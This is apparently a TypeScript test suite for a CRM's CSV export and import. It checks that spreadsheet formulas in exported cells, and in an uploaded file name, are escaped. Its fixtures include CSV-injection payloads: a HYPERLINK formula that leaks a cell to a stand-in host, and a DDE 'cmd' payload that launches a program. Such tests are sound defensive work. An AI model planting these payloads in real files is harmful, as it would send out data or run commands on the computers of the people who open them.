import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../src/db/open.js';
import { exportOrg, importCsv, importDir, rejectsCsv } from '../../src/features/crm/service.js';
import { createOrg } from '../../src/features/orgs/service.js';
import { addPerson } from '../../src/features/people/service.js';
import { NOW } from '../helpers/crm.js';
import { testDatabase } from '../helpers/db.js';
import { makeOrg, uniq } from '../helpers/factories.js';

/** Spreadsheet formulas in every CSV Touchline writes (issue 11, point 2). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1)',
  '-2+3',
];
let database: Database;
const dirs: string[] = [];
beforeAll(async () => {
  database = await testDatabase();
});
afterAll(async () => {
  await database.close();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const tmp = () => {
  const d = mkdtempSync(join(tmpdir(), 'tl-formula-'));
  dirs.push(d);
  return d;
};
const cells = (file: string) =>
  parse<string[]>(readFileSync(file, 'utf8'), { skipEmptyLines: true }).data.flat();

describe('CSV formula injection', () => {
  it('writes no cell a spreadsheet would run, keeps numbers as numbers, and export → import → export is exact', async () => {
    const t = await makeOrg(database.db);
    for (const [i, formula] of FORMULAS.entries())
      await addPerson(database.db, {
        orgId: t.org.id,
        person: {
          email: `f${i}@${t.org.slug}.test`,
          name: formula,
          role: 'rep',
          managerId: t.m1.id,
          team: formula,
        },
      });
    await importCsv(database, {
      orgId: t.org.id,
      request: { kind: 'opportunities', format: 'generic', dryRun: false, strict: false },
      input: Readable.from([
        `id,owner_email,account,name,amount,created_at,stage,closed_at,won\n=1+1,${t.r1.email},@Acme,-deal,12.50,2026-05-04,Prospecting,,\n`,
      ]),
      fileName: 'opportunities.csv',
      now: NOW,
    });
    const a = tmp();
    await exportOrg(database, { orgId: t.org.id, dir: a });
    for (const f of ['people.csv', 'opportunities.csv']) {
      for (const cell of cells(join(a, f)))
        expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), `${f}: ${cell}`).toBe(false);
    }
    const people = readFileSync(join(a, 'people.csv'), 'utf8');
    for (const formula of FORMULAS) expect(people).toContain(`'${formula.replaceAll('"', '""')}`);
    expect(readFileSync(join(a, 'opportunities.csv'), 'utf8')).toContain(',12.50,');

    const copy = await createOrg(database.db, { slug: `copy-${uniq()}` });
    const summary = await importDir(database, {
      orgId: copy.id,
      dir: a,
      now: NOW,
      request: { dryRun: false, strict: false },
    });
    expect(summary.rejected, JSON.stringify(summary.rejects)).toBe(0);
    const b = tmp();
    await exportOrg(database, { orgId: copy.id, dir: b });
    for (const f of ['people.csv', 'opportunities.csv', 'stage_history.csv', 'activities.csv'])
      expect(readFileSync(join(b, f), 'utf8'), f).toBe(readFileSync(join(a, f), 'utf8'));
  });

  it('neutralises the uploaded file name and every other cell of rejects.csv', async () => {
    const t = await makeOrg(database.db);
    const job = await importCsv(database, {
      orgId: t.org.id,
      request: { kind: 'opportunities', format: 'generic', dryRun: false, strict: false },
      input: Readable.from([
        'id,owner_email,account,name,amount,created_at,stage\nX1,=nobody@x.test,A,B,1,2026-05-04,Prospecting\n',
      ]),
      fileName: '=HYPERLINK("http://evil.example","x").csv',
      now: NOW,
    });
    expect(job.rejected).toBe(1);
    const csv = rejectsCsv({ rejects: job.rejects } as Parameters<typeof rejectsCsv>[0]);
    for (const cell of cells2(csv)) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
    expect(csv).toContain(`'=HYPERLINK`);
  });
});

const cells2 = (text: string) => parse<string[]>(text, { skipEmptyLines: true }).data.flat();
